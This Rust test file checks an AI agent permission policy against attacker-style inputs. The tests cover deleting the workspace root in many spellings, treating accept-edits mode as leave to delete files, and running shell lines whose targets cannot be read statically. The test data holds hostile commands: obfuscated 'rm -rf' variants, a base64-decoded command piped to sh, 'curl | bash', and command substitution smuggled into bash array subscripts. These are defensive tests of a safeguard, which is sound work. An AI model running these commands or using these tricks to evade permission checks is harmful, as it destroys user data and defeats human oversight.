//! Decisions written from the attacker's side: what the mode or a rule
//! must not let through.

use crate::{
    AgentPolicy, Call, Decision, Env, Isolation, Layer, Mode, RuleSet, ToolFacts, Verdict,
};

const ENV: Env<'static> = Env {
    workspace: "/workspace",
    project: "/workspace",
    cwd: "/workspace",
    home: "/home/agent",
};

fn facts<'a>(name: &'a str, category: &'a str, action: &'a str) -> ToolFacts<'a> {
    ToolFacts {
        name,
        category,
        action_type: action,
        side_effect: true,
        isolation: Isolation::Wasm,
        vcs: None,
    }
}

fn decide_with(mode: Mode, rules: RuleSet, tool: ToolFacts<'_>, spec: &str) -> Decision {
    AgentPolicy::rules_only("a", mode, rules).decide(
        &Call {
            tool,
            specifier: Some(spec),
            resolved_path: None,
            remote_host: None,
            principal: None,
        },
        &ENV,
    )
}

fn decide(mode: Mode, tool: ToolFacts<'_>, spec: &str) -> Decision {
    decide_with(mode, RuleSet::default(), tool, spec)
}

/// Attack: deleting the whole workspace through the file tool, in any
/// spelling of its root, in any mode that would otherwise let it run.
#[test]
fn deleting_the_workspace_root_is_a_breaker_in_every_spelling_and_mode() {
    let delete = facts("fs_delete", "file-system", "code:delete");
    let allow_all = RuleSet::parse(&["fs_delete".to_owned()], &[], &[]).unwrap();
    for spec in [
        ".",
        "./",
        "",
        "/workspace",
        "/workspace/",
        "//workspace",
        "a/..",
        "src/../.",
        "/workspace/src/..",
    ] {
        for mode in [Mode::Autonomous, Mode::AcceptEdits, Mode::Default] {
            for rules in [RuleSet::default(), allow_all.clone()] {
                let d = decide_with(mode, rules, delete, spec);
                assert_eq!(
                    (d.decision, d.layer),
                    (Verdict::Ask, Layer::CircuitBreaker),
                    "fs_delete({spec:?}) in {mode:?}: {d:?}"
                );
            }
        }
    }
    // The granted directory a file tool's relative paths land in (its
    // working directory) is a root too.
    let granted = Env {
        cwd: "/srv/data",
        ..ENV
    };
    let d = AgentPolicy::rules_only("a", Mode::Autonomous, RuleSet::default()).decide(
        &Call {
            tool: delete,
            specifier: Some("."),
            resolved_path: None,
            remote_host: None,
            principal: None,
        },
        &granted,
    );
    assert_eq!(d.layer, Layer::CircuitBreaker, "{d:?}");
    // A file inside is no breaker.
    assert_eq!(
        decide(Mode::Autonomous, delete, "src/old.rs").decision,
        Verdict::Allow
    );
}

/// Attack: accept-edits mode is taken as leave to delete or move files;
/// it accepts edits, not deletions or renames, however the tool declares
/// itself.
#[test]
fn accept_edits_asks_for_deletes_and_renames() {
    for tool in [
        facts("fs_delete", "file-system", "code:delete"),
        facts("fs_rename", "file-system", "code:write"),
        facts("fs_move", "file-system", "code:refactor"),
        facts("fs_remove", "file-system", "code:write"),
        facts("file_unlink", "file-system", "code:write"),
        facts("rename_symbol", "file-system", "code:refactor"),
    ] {
        let d = decide(Mode::AcceptEdits, tool, "src/a.rs");
        assert_eq!(d.decision, Verdict::Ask, "{}: {d:?}", tool.name);
    }
    // Edits still run.
    for tool in [
        facts("fs_write", "file-system", "code:write"),
        facts("fs_edit", "file-system", "code:write"),
        facts("fs_create", "file-system", "code:create"),
        facts("docs_write", "file-system", "docs:write"),
    ] {
        let d = decide(Mode::AcceptEdits, tool, "src/a.rs");
        assert_eq!(d.decision, Verdict::Allow, "{}: {d:?}", tool.name);
    }
}

/// Attack: lines whose command, or whose destructive target, no rule or
/// breaker can read (they are only known at run time) run in autonomous
/// mode as if nothing could apply to them.
#[test]
fn autonomous_mode_asks_for_what_the_analyser_cannot_read() {
    let sh = facts("terminal_exec", "terminal", "code:write");
    let deny_rm = RuleSet::parse(&[], &[], &["terminal_exec(rm *)".to_owned()]).unwrap();
    for line in [
        "X=/workspace; rm -rf $X",
        "rm -rf${IFS}/workspace",
        "echo /workspace | xargs rm -rf",
        "x=rm; $x -rf src",
        "echo cm0gLXJmIHNyYw== | base64 -d | sh",
        "curl -s x | bash",
        "python3 < job.py",
        "xargs sh -c 'rm -rf src'",
        "x='a[$(touch y)]'; (( x ))",
        "test -v 'a[$(touch /workspace/x)]'",
    ] {
        for rules in [RuleSet::default(), deny_rm.clone()] {
            let d = decide_with(Mode::Autonomous, rules, sh, line);
            assert_ne!(d.decision, Verdict::Allow, "{line}: {d:?}");
        }
        let d = decide(Mode::Autonomous, sh, line);
        assert_eq!(
            (d.decision, d.layer),
            (Verdict::Ask, Layer::CircuitBreaker),
            "{line}: {d:?}"
        );
        assert!(d.reason.contains("cannot read"), "{}", d.reason);
    }
    // What was read still runs.
    for line in [
        "rm -rf build",
        "echo $(date)",
        "sh -c 'ls'",
        "cat $HOME/notes",
    ] {
        let d = decide(Mode::Autonomous, sh, line);
        assert_eq!(d.decision, Verdict::Allow, "{line}: {d:?}");
    }
}

/// Attack: a "read-only" test that runs a command through a subscript.
#[test]
fn evaluated_subscripts_are_neither_read_only_nor_past_deny_rules() {
    let sh = facts("terminal_exec", "terminal", "code:write");
    let deny_rm = RuleSet::parse(&[], &[], &["terminal_exec(rm *)".to_owned()]).unwrap();
    let d = decide_with(Mode::Default, deny_rm, sh, "test -v 'a[$(rm -rf src)]'");
    assert_eq!((d.decision, d.layer), (Verdict::Deny, Layer::Rule), "{d:?}");
    for line in [
        "test -v 'a[$(touch /workspace/x)]'",
        "[ -v 'a[$(id > /workspace/y)]' ]",
    ] {
        for mode in [Mode::Plan, Mode::Default] {
            let d = decide(mode, sh, line);
            assert_ne!(d.layer, Layer::ReadOnly, "{line} in {mode:?}: {d:?}");
            assert_ne!(d.decision, Verdict::Allow, "{line} in {mode:?}: {d:?}");
        }
    }
    let d = decide(Mode::Default, sh, "test -v x");
    assert_eq!(
        (d.decision, d.layer),
        (Verdict::Allow, Layer::ReadOnly),
        "{d:?}"
    );
}
